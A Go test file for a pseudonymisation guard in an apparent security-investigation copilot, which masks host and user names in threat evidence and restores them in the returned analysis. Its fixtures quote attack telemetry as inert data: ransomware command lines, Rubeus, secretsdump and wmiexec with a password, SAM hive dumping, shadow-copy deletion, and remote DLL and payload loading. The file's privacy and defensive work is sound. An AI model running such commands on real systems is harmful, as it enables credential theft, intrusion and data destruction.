package guard

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log/slog"
	"reflect"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/s1copilot/s1copilot/guard/guardtest"
	"github.com/s1copilot/s1copilot/investigation"
	"github.com/s1copilot/s1copilot/investigation/investigationtest"
)

// everyString returns all strings reachable from v.
func everyString(v any) []string {
	var out []string
	visitStrings(v, func(_, s string) { out = append(out, s) })
	return out
}

func TestPseudonymizeReplacesEveryName(t *testing.T) {
	ev := investigationtest.Personal()
	before := fmt.Sprintf("%#v", ev)
	sent, names := Pseudonymize(ev)

	assert.Equal(t, before, fmt.Sprintf("%#v", ev), "the real evidence must not change")
	for _, s := range everyString(&sent) {
		for _, name := range []string{"FS-PROD-01", "mkowalski", "SALES-LT-042"} {
			assert.False(t, guardtest.Mentions(s, name), "%q still names %s", s, name)
		}
	}
	f := sent.Facts
	assert.Equal(t, "HOST-1", f.AgentName)
	assert.Equal(t, `FABRIKAM\USER-1`, f.ProcessUser, "the domain stays, the user goes")
	assert.Equal(t, `\Device\HarddiskVolume2\Users\USER-1\AppData\Local\Temp\lockbit3.exe`, f.FilePath)
	assert.Equal(t, `"C:\Users\USER-1\AppData\Local\Temp\lockbit3.exe" -path \\HOST-1\Finance -log HOST-1.fabrikam.local`, f.CommandLine,
		"same host, same token, in a UNC path and an FQDN")
	assert.Equal(t, `User FABRIKAM\USER-1 logged on to HOST-1 from HOST-2`, sent.Timeline[1].Description,
		"a second host named in the timeline gets its own token")
	assert.Equal(t, 3, names.Len())

	// Untouched: what is not a name.
	assert.Equal(t, ev.Facts.SHA1, f.SHA1)
	assert.Equal(t, ev.Facts.Indicators, f.Indicators)
	assert.Equal(t, ev.Facts.OSName, f.OSName)
	assert.Equal(t, ev.Timeline[0].At, sent.Timeline[0].At)
}

func TestPseudonymizeWordBoundaries(t *testing.T) {
	ev := investigation.Evidence{Facts: investigation.ThreatFacts{AgentName: "SRV", ProcessUser: `CORP\jo`}}
	for _, tc := range []struct{ in, want string }{
		{"SRVHOST", "SRVHOST"},
		{"SRV-01", "SRV-01"},
		{"SRV_backup", "SRV_backup"},
		{"XSRV", "XSRV"},
		{"srv", "HOST-1"},
		{"srv.corp.local", "HOST-1.corp.local"},
		{`\\SRV\c$`, `\\HOST-1\c$`},
		{`SRV$`, `HOST-1$`},
		{`net use \\srv\share & ping SRV2 & ping srv`, `net use \\HOST-1\share & ping SRV2 & ping HOST-1`},
		{`jo@corp.example logged on to srv`, `USER-1@corp.example logged on to HOST-1`},
		// joan is another user of the same domain; jones is just a word.
		{`CORP\jo and CORP\joan and jones`, `CORP\USER-1 and CORP\USER-2 and jones`},
		{"/home/jo/.ssh/authorized_keys", "/home/USER-1/.ssh/authorized_keys"},
		{"Jo's laptop", "USER-1's laptop"},
	} {
		ev.Facts.CommandLine = tc.in
		sent, _ := Pseudonymize(ev)
		assert.Equal(t, tc.want, sent.Facts.CommandLine, "in %q", tc.in)
	}
}

func TestPseudonymizeFindsNamesByShape(t *testing.T) {
	for _, tc := range []struct {
		text  string
		names []string // expected to be replaced
		kept  []string // expected to stay
	}{
		{`C:\Users\Anna Berg\Desktop\x.exe`, []string{"Anna Berg"}, nil},
		{`C:\Users\Public\x.exe C:\Users\Default\y`, nil, []string{"Public", "Default"}},
		{`\Device\HarddiskVolume3\Documents and Settings\pnguyen\z.dll`, []string{"pnguyen"}, nil},
		{`/Users/skim/Downloads/a.pkg`, []string{"skim"}, nil},
		{`Rubeus.exe asktgt /user:svc_backup /ptt`, []string{"svc_backup"}, nil},
		{`curl --user=deploy https://x`, []string{"deploy"}, nil},
		{`User tlee logged on interactively`, []string{"tlee"}, nil},
		{`PsExec64.exe \\FAB-APP-11 -s cmd`, []string{"FAB-APP-11"}, nil},
		{`copy x \\corp.fabrikam.com\NETLOGON\it\y`, nil, []string{"corp", "NETLOGON"}},
		{`logon from WKS-0042 over RDP from 185.220.101.33`, []string{"WKS-0042"}, []string{"185.220.101.33"}},
		{`downloaded from example and from T1059-x`, nil, []string{"example"}},
		{`Custom rule 'X' raised an alert on web-prod-03`, []string{"web-prod-03"}, nil},
		{`NT AUTHORITY\SYSTEM and root and www-data and FABRIKAM\Administrator`, nil, []string{"SYSTEM", "root", "www-data", "Administrator"}},
		{`IIS APPPOOL\intranet`, nil, []string{"intranet"}},
	} {
		ev := investigation.Evidence{Timeline: []investigation.TimelineItem{{Description: tc.text}}}
		sent, _ := Pseudonymize(ev)
		got := sent.Timeline[0].Description
		for _, n := range tc.names {
			assert.False(t, guardtest.Mentions(got, n), "%q: %s should be pseudonymised, got %q", tc.text, n, got)
		}
		for _, n := range tc.kept {
			assert.True(t, guardtest.Mentions(got, n), "%q: %s should stay, got %q", tc.text, n, got)
		}
	}
}

func TestPseudonymizeHostForms(t *testing.T) {
	ev := investigation.Evidence{Facts: investigation.ThreatFacts{
		AgentName:   "payments-api-7d9c6b7f9-x2kqp.prod.example.com",
		CommandLine: `PAYMENTS-API-7D\svc and payments-api-7d9c6b7f9-x2kqp and payments-api-7d9c6b7f9-x2kqp.prod.example.com`,
	}}
	sent, names := Pseudonymize(ev)
	assert.Equal(t, `HOST-1\svc and HOST-1 and HOST-1`, sent.Facts.CommandLine, "FQDN, short name and NetBIOS name are one host")
	assert.Equal(t, 1, names.Len())
	assert.Equal(t, "payments-api-7d9c6b7f9-x2kqp.prod.example.com", names.Restore("HOST-1"))
}

func TestPseudonymizeTokensNeverCollideWithTheData(t *testing.T) {
	ev := investigation.Evidence{Facts: investigation.ThreatFacts{
		AgentName: "FIN-FS-01", CommandLine: `ping HOST-1 && ping FIN-FS-01`,
	}}
	sent, names := Pseudonymize(ev)
	assert.Equal(t, "ping HOST-1 && ping HOST-2", sent.Facts.CommandLine)
	assert.Equal(t, "HOST-1 is not FIN-FS-01", names.Restore("HOST-1 is not HOST-2"),
		"a token-shaped string of the data is not a pseudonym and stays")
}

// fillStrings sets every exported string reachable from the pointer v to val,
// growing nil slices and maps to one element so nested fields are reached too.
func fillStrings(v reflect.Value, val string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(val)
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fillStrings(v.Field(i), val)
			}
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			return
		}
		if v.Len() == 0 {
			v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		}
		for i := range v.Len() {
			fillStrings(v.Index(i), val)
		}
	case reflect.Array:
		for i := range v.Len() {
			fillStrings(v.Index(i), val)
		}
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		fillStrings(v.Elem(), val)
	case reflect.Map:
		k, e := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		fillStrings(k, val)
		fillStrings(e, val)
		if v.IsNil() {
			v.Set(reflect.MakeMap(v.Type()))
		}
		v.SetMapIndex(k, e)
	}
}

// TestPseudonymizeCoversEveryStringFieldOfEvidence fills every string field of
// investigation.Evidence, including fields added after this test was written
// (Evidence.Context, ...), with text naming the host and the user: none may
// survive.
func TestPseudonymizeCoversEveryStringFieldOfEvidence(t *testing.T) {
	var ev investigation.Evidence
	fillStrings(reflect.ValueOf(&ev).Elem(), `C:\Users\jdoe\x.exe on FS-PROD-01 (FS-PROD-01.corp)`)
	ev.Facts.AgentName = "FS-PROD-01"
	n := len(everyString(&ev))
	require.Greater(t, n, 25, "the fill must reach the string fields")

	sent, names := Pseudonymize(ev)
	require.Equal(t, 2, names.Len())
	got := everyString(&sent)
	require.Len(t, got, n)
	for _, s := range got {
		assert.False(t, guardtest.Mentions(s, "FS-PROD-01") || guardtest.Mentions(s, "jdoe"), "not pseudonymised: %q", s)
	}
	assert.True(t, guardtest.Mentions(fmt.Sprint(ev), "FS-PROD-01"), "the real evidence keeps its names")
}

// futureEvidence stands for string fields nobody has written yet: nested
// structs, pointers, maps (keys too), arrays, interfaces and named string types.
type futureEvidence struct {
	Evidence investigation.Evidence
	Context  *struct {
		ProcessTree []struct {
			Image, CommandLine string
			User               string
			Children           []map[string]string
		}
		Prevalence map[string]int
		Cloud      struct {
			Labels    [2]string
			Extra     any
			Namespace investigation.Verdict // a named string type
		}
	}
	unexported string
}

func TestPseudonymizeWalksUnknownFields(t *testing.T) {
	var fe futureEvidence
	fillStrings(reflect.ValueOf(&fe).Elem(), "ran on FS-PROD-01 as CORP\\jdoe")
	fe.Evidence.Facts.AgentName = "FS-PROD-01"
	fe.Context.ProcessTree[0].User = `CORP\jdoe`
	fe.Context.Cloud.Extra = map[string]any{"node": []any{"FS-PROD-01"}}
	fe.unexported = "kept as is"

	p := newPseudonyms(&fe)
	out := rewrite(fe, p.pseudonymize)
	for _, s := range everyString(&out) {
		assert.False(t, guardtest.Mentions(s, "FS-PROD-01") || guardtest.Mentions(s, "jdoe"), "not pseudonymised: %q", s)
	}
	assert.Equal(t, `CORP\USER-1`, out.Context.ProcessTree[0].User)
	assert.Contains(t, out.Context.Prevalence, `ran on HOST-1 as CORP\USER-1`, "map keys too")
	assert.Equal(t, []any{"HOST-1"}, out.Context.Cloud.Extra.(map[string]any)["node"])
	assert.Equal(t, "kept as is", out.unexported)
	// A deep copy: the original is untouched.
	assert.Equal(t, `CORP\jdoe`, fe.Context.ProcessTree[0].User)
	assert.Equal(t, []any{"FS-PROD-01"}, fe.Context.Cloud.Extra.(map[string]any)["node"])
	assert.Contains(t, fe.Context.Prevalence, `ran on FS-PROD-01 as CORP\jdoe`)
}

func TestPseudonymsRestoreAnalysis(t *testing.T) {
	_, names := Pseudonymize(investigationtest.Personal())
	a := investigation.Analysis{
		Summary:        "USER-1 ran lockbit on HOST-1; HOST-2 was the source. HOST-9 and USER-7 are made up. HOST-10 too.",
		AttackTimeline: []investigation.AttackStep{{Step: "host-1 encrypted", Evidence: `\\HOST-1\Finance`}},
		ActionReasons:  []investigation.ActionReason{{Action: investigation.ActionIsolate, Reason: "keep HOST-1 off the network"}},
		OpenQuestions:  []string{"Did USER-1 open the mail on HOST-2?"},
		CorrectionNote: "first answer rejected: cites HOST-1",
	}
	got := names.RestoreAnalysis(a)
	assert.Equal(t, "mkowalski ran lockbit on FS-PROD-01; SALES-LT-042 was the source. HOST-9 and USER-7 are made up. HOST-10 too.", got.Summary)
	assert.Equal(t, investigation.AttackStep{Step: "FS-PROD-01 encrypted", Evidence: `\\FS-PROD-01\Finance`}, got.AttackTimeline[0])
	assert.Equal(t, "keep FS-PROD-01 off the network", got.ActionReasons[0].Reason)
	assert.Equal(t, []string{"Did mkowalski open the mail on SALES-LT-042?"}, got.OpenQuestions)
	assert.Equal(t, "first answer rejected: cites FS-PROD-01", got.CorrectionNote)
	assert.Equal(t, "USER-1 ran lockbit on HOST-1; HOST-2 was the source. HOST-9 and USER-7 are made up. HOST-10 too.", a.Summary, "input untouched")
}

func TestPseudonymsNeverPrinted(t *testing.T) {
	_, names := Pseudonymize(investigationtest.Personal())
	var logs bytes.Buffer
	slog.New(slog.NewJSONHandler(&logs, nil)).Info("x", "names", names)
	js, err := json.Marshal(map[string]any{"names": names})
	require.NoError(t, err)
	for _, out := range []string{fmt.Sprint(names), fmt.Sprintf("%+v", names), fmt.Sprintf("%#v", names), fmt.Sprintf("%s", names), string(js), logs.String()} {
		for _, leak := range []string{"mkowalski", "FS-PROD-01", "SALES-LT-042", "HOST-1", "USER-1"} {
			assert.NotContains(t, out, leak)
		}
	}
	assert.Contains(t, fmt.Sprint(names), "3 names")
}

func TestPseudonymizeNothingToHide(t *testing.T) {
	ev := investigation.Evidence{Facts: investigation.ThreatFacts{ThreatName: "x.exe", ProcessUser: `NT AUTHORITY\SYSTEM`}}
	sent, names := Pseudonymize(ev)
	assert.Equal(t, ev, sent)
	assert.Equal(t, 0, names.Len())
	a := investigation.Analysis{Summary: "HOST-1"}
	assert.Equal(t, a, names.RestoreAnalysis(a))
	assert.Equal(t, "HOST-1", (*Pseudonyms)(nil).Restore("HOST-1"))
}

func TestPseudonymizeIsDeterministic(t *testing.T) {
	a, _ := Pseudonymize(investigationtest.Personal())
	for range 5 {
		b, _ := Pseudonymize(investigationtest.Personal())
		require.Equal(t, a, b)
	}
	require.True(t, strings.Contains(a.Timeline[1].Description, "HOST-2"))
}

func BenchmarkPseudonymize(b *testing.B) {
	ev := investigationtest.Personal()
	for b.Loop() {
		sent, names := Pseudonymize(ev)
		_ = names.Restore(sent.Facts.CommandLine)
	}
}

// hiddenAndKept pseudonymises ev and checks, in every string sent, that no name
// of hidden is left and that every text of kept is there unchanged. It also checks
// that restoring the sent evidence gives back the real one: the new tokens
// round-trip.
func hiddenAndKept(t *testing.T, ev investigation.Evidence, hidden, kept []string) investigation.Evidence {
	t.Helper()
	sent, names := Pseudonymize(ev)
	all := strings.Join(everyString(&sent), "\n")
	for _, n := range hidden {
		assert.False(t, guardtest.Mentions(all, n), "%s should be pseudonymised in:\n%s", n, all)
	}
	for _, k := range kept {
		assert.Contains(t, all, k, "should stay as it is")
	}
	assert.Equal(t, ev, rewrite(sent, names.Restore), "the tokens restore to the real names")
	return sent
}

func timeline(texts ...string) []investigation.TimelineItem {
	var out []investigation.TimelineItem
	for _, s := range texts {
		out = append(out, investigation.TimelineItem{Description: s})
	}
	return out
}

// Class 1: hosts named in free text beside an IP address, as machine accounts,
// as FQDNs of the customer's domains and by the tenant's naming scheme.
func TestPseudonymizeHostsBesideAnIP(t *testing.T) {
	ev := investigation.Evidence{
		Facts: investigation.ThreatFacts{AgentName: "FAB-APP-21", OriginatorProcess: "php-fpm",
			CommandLine: "python3 /tmp/x.py"},
		Timeline: timeline(
			`FABRIKAM\Administrator from 10.20.6.5 (FAB-FS-05) at 02:14`,
			`Custom rule 'X' raised an alert: render from 10.40.44.61 (DES-DT-061)`,
			`PsExec service installed remotely from FIN-LT-118 (10.40.18.118), a finance laptop`,
			`smb.exe → 10.0.0.7:445 (FS01)`,
			`logon from 10.40.18.118 (cmd.exe) and 10.0.0.9 (secretsdump.py)`,
			`C2 at 91.92.251.103 (NL), 185.107.56.201 (RO), 194.165.16.37 (password), 10.1.1.1 (non-routable)`,
			`webshell reached from 45.9.148.99 (php-fpm) and 45.9.148.98 (python3)`,
		),
	}
	hiddenAndKept(t, ev, []string{"FAB-FS-05", "DES-DT-061", "FIN-LT-118", "FS01"},
		[]string{"(cmd.exe)", "(secretsdump.py)", "(NL)", "(RO)", "(password)", "(non-routable)", "(php-fpm)", "(python3)", "10.20.6.5"})
}

func TestPseudonymizeMachineAccounts(t *testing.T) {
	ev := investigation.Evidence{Timeline: timeline(
		`An account was logged on. Account Name: WKS-0042$`,
		`DCSync by FABRIKAM\FILESRV$`,
		`copy \\IT-FS-01\pdq$\x.exe \\127.0.0.1\ADMIN$ \\10.0.0.5\C$ $env:TEMP\a.exe ${HOME} $(id)`,
	)}
	sent := hiddenAndKept(t, ev, []string{"WKS-0042", "FILESRV", "IT-FS-01"}, []string{`\pdq$\x.exe`, `\\127.0.0.1\ADMIN$`, `$env:TEMP\a.exe ${HOME} $(id)`})
	assert.Equal(t, `An account was logged on. Account Name: HOST-1$`, sent.Timeline[0].Description, "the '$' stays: the model sees a machine account")
}

func TestPseudonymizeCustomerFQDNs(t *testing.T) {
	ev := investigation.Evidence{
		Facts: investigation.ThreatFacts{AgentName: "WKS-0042", ProcessUser: `FABRIKAM\jdoe`},
		Timeline: timeline(
			`nltest /dclist:fabrikam.com & ping sql01.fabrikam.com & curl https://www.fabrikam.com/x`,
			`dir \\corp.fabrikam.com\NETLOGON\it`,
			`ssh to Janes-MacBook-Pro.local, dc02.corp.lan and web.prod.internal; cat .env.local`,
			`update.microsoft.com raw.githubusercontent.com pool.supportxmr.com NTDS.dit System.Management.Automation`,
		),
	}
	sent := hiddenAndKept(t, ev, []string{"sql01", "www.fabrikam.com", "Janes-MacBook-Pro", "dc02", "web.prod.internal"},
		[]string{"fabrikam.com &", `\\corp.fabrikam.com\NETLOGON\it`, ".env.local",
			"update.microsoft.com raw.githubusercontent.com pool.supportxmr.com NTDS.dit System.Management.Automation"})
	assert.Contains(t, sent.Timeline[0].Description, "ping HOST-2.fabrikam.com", "a distinctive host label goes, the domain stays")

	// The customer's domain also comes from a UPN and from the agent's own FQDN.
	ev = investigation.Evidence{
		Facts:    investigation.ThreatFacts{AgentName: "wks7.contoso.net", LastLoggedInUser: "amy@woodgrove.com"},
		Timeline: timeline(`copied to files.contoso.net and mail.woodgrove.com, not to files.example.net`),
	}
	hiddenAndKept(t, ev, []string{"files.contoso.net", "mail.woodgrove.com", "amy"}, []string{"files.example.net"})
}

func TestPseudonymizeHostsOfTheTenantsNamingScheme(t *testing.T) {
	ev := investigation.Evidence{
		Facts: investigation.ThreatFacts{AgentName: "FIN-LT-118"},
		Timeline: timeline(
			`Custom rule 'Mass file rename on share' raised an alert on FAB-FS-07 and on fab-hv-02`,
			`then moved to SALES-DT-22; host: OPS-DT-9 resolved HR-LT-061`,
			// Another shape (INC-2025-0388), after no host word, or not a host.
			`after incident INC-2025-0388 on first-chance, the user-defined list; saw FAB-FS-08`,
		),
	}
	hiddenAndKept(t, ev, []string{"FAB-FS-07", "fab-hv-02", "SALES-DT-22", "OPS-DT-9", "HR-LT-061"},
		[]string{"INC-2025-0388", "first-chance", "user-defined", "saw FAB-FS-08"})

	ev = investigation.Evidence{
		Facts:    investigation.ThreatFacts{AgentName: "WKS-0042"},
		Timeline: timeline(`hashed to SHA-256, encoded to UTF-8, keyed to AES-128, then copied to SRV-0099`),
	}
	hiddenAndKept(t, ev, []string{"SRV-0099"}, []string{"SHA-256", "UTF-8", "AES-128"})
}

// Class 2: DOMAIN\user of any NetBIOS domain, with built-in and virtual
// accounts, groups, registry keys and paths left alone.
func TestPseudonymizeAnyNetBIOSDomainUser(t *testing.T) {
	ev := investigation.Evidence{
		Facts: investigation.ThreatFacts{AgentName: "FAB-APP-52", ProcessUser: `NT AUTHORITY\SYSTEM`},
		Timeline: timeline(
			`Service 'a3c2e1f' installed by FABRIKAM\svc_erp from 10.40.51.210`,
			`LYON-OT\operator and DESKTOP-7F3K2L\alice; later fabrikam\kchen.`,
			`net use Z: \\FAB-FS-05\Finance /user:CONTOSO\bwilson & echo "MZ\x90"`,
			`NT AUTHORITY\LOCAL SERVICE, NT SERVICE\MSSQLSERVER, IIS APPPOOL\DefaultAppPool, BUILTIN\Administrators`,
			`Window Manager\DWM-1, Font Driver Host\UMFD-0, FABRIKAM\Domain Admins, FABRIKAM\krbtgt`,
			`reg save HKLM\SAM sam.save & reg query HKLM\SOFTWARE & SYSTEM\Select & SOFTWARE\Microsoft\Windows`,
			`iwr x -o $env:TEMP\8821.exe; %APPDATA%\svc.ps1; TEMP\8821.exe; C:\PROGRA~1\x`,
		),
	}
	hiddenAndKept(t, ev, []string{"svc_erp", "operator", "alice", "DESKTOP-7F3K2L", "kchen", "bwilson"}, []string{
		`/user:CONTOSO\`, `"MZ\x90"`,
		`NT AUTHORITY\LOCAL SERVICE, NT SERVICE\MSSQLSERVER, IIS APPPOOL\DefaultAppPool, BUILTIN\Administrators`,
		`Window Manager\DWM-1, Font Driver Host\UMFD-0, FABRIKAM\Domain Admins, FABRIKAM\krbtgt`,
		`reg save HKLM\SAM sam.save & reg query HKLM\SOFTWARE & SYSTEM\Select & SOFTWARE\Microsoft\Windows`,
		`iwr x -o $env:TEMP\8821.exe; %APPDATA%\svc.ps1; TEMP\8821.exe; C:\PROGRA~1\x`,
		"FABRIKAM", "LYON-OT",
	})
}

func TestPseudonymizeImpacketTargets(t *testing.T) {
	ev := investigation.Evidence{
		Facts: investigation.ThreatFacts{AgentName: "kali-01", ProcessUser: `FABRIKAM\jdoe`},
		Timeline: timeline(
			`secretsdump.py fabrikam.com/rt.operator1@10.20.0.5 -just-dc-ntlm`,
			`wmiexec.py FABRIKAM/adm.lee:Passw0rd@FAB-DC-01`,
			`docker pull fabrikam/web@sha256:0a1b2c3d and go install fabrikam/tool@v1.2.3 and npm i fabrikam/cli@2.1.0`,
		),
	}
	hiddenAndKept(t, ev, []string{"rt.operator1", "adm.lee"}, []string{"fabrikam/web@sha256", "fabrikam/tool@v1.2.3", "fabrikam/cli@2.1.0"})
}

// Class 3: the agent's last logged-in user, bare or DOMAIN\-prefixed, hidden
// wherever it appears.
func TestPseudonymizeLastLoggedInUser(t *testing.T) {
	ev := investigation.Evidence{Facts: investigation.ThreatFacts{
		AgentName: "DES-MB-019", ProcessUser: "root", LastLoggedInUser: "mhoffman",
		CommandLine: `/bin/bash /Library/Application Support/JAMF/tmp/FontSync.sh / DES-MB-019 mhoffman`,
	}}
	sent := hiddenAndKept(t, ev, []string{"mhoffman"}, []string{"root", "FontSync.sh"})
	assert.Equal(t, "USER-1", sent.Facts.LastLoggedInUser)
	assert.Equal(t, `/bin/bash /Library/Application Support/JAMF/tmp/FontSync.sh / HOST-1 USER-1`, sent.Facts.CommandLine)

	ev = investigation.Evidence{
		Facts:    investigation.ThreatFacts{AgentName: "FAB-APP-52", ProcessUser: `NT AUTHORITY\SYSTEM`, LastLoggedInUser: `CONTOSO\svc_erp`},
		Timeline: timeline(`Service installed by svc_erp`),
	}
	sent, names := Pseudonymize(ev)
	assert.Equal(t, `CONTOSO\USER-1`, sent.Facts.LastLoggedInUser)
	assert.Equal(t, `Service installed by USER-1`, sent.Timeline[0].Description)
	got := names.RestoreAnalysis(investigation.Analysis{Summary: `HOST-1 ran it while USER-1 was logged on`})
	assert.Equal(t, `FAB-APP-52 ran it while svc_erp was logged on`, got.Summary)
}

// Class 4: a bare user name next to "user", "by" or "from" is hidden when the
// evidence names it elsewhere (process user, last logged-in user, DOMAIN\user);
// an unknown word there is not guessed at.
func TestPseudonymizeBareUserNamesKnownFromTheEvidence(t *testing.T) {
	ev := investigation.Evidence{
		Facts: investigation.ThreatFacts{AgentName: "fab-bastion-01", ProcessUser: "root", LastLoggedInUser: "ops-deploy"},
		Timeline: timeline(
			`ops-deploy from 45.141.84.120, then sudo -i`,
			`token stolen from FABRIKAM\svc_erp; later: service installed by svc_erp, user svc_erp`,
			`installed by deploy from 45.141.84.121, user backup`,
		),
	}
	hiddenAndKept(t, ev, []string{"ops-deploy", "svc_erp"}, []string{"installed by deploy from 45.141.84.121, user backup", "root"})
}

// What is not a name stays whatever the names around it: file paths, hashes,
// process names, techniques, vendor domains.
func TestPseudonymizeLeavesWhatIsNotAName(t *testing.T) {
	texts := []string{
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -enc SQBFAFgA`,
		`\Device\HarddiskVolume3\Program Files\Veeam\Backup\Veeam.Backup.Service.exe`,
		`3395856ce81f2b7382dee72602f798b642f14140 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855`,
		`svchost.exe → 13.107.4.50:443 (update.microsoft.com); msedge.exe resolved login.microsoftonline.com`,
		`T1059.001 T1003.006 CVE-2021-44228 KB5034441 MS17-010 SHA-256 UTF-8 x86_64 amd64`,
		`/usr/sbin/php-fpm8.2 /usr/bin/python3.11 /opt/splunkforwarder/bin/splunkd kworker/0:1`,
		`vssadmin.exe delete shadows /shadow={b5946137-7b9f-4925-af80-51abd60b20d5} /quiet`,
		`rundll32.exe \\45.141.215.17@80\share\qu.dll,DllRegisterServer`,
	}
	ev := investigation.Evidence{
		Facts:    investigation.ThreatFacts{AgentName: "FIN-LT-118", ProcessUser: `FABRIKAM\jdoe`, LastLoggedInUser: `FABRIKAM\jdoe`},
		Timeline: timeline(texts...),
	}
	sent := hiddenAndKept(t, ev, []string{"jdoe", "FIN-LT-118"}, texts)
	assert.Equal(t, ev.Timeline, sent.Timeline)
}
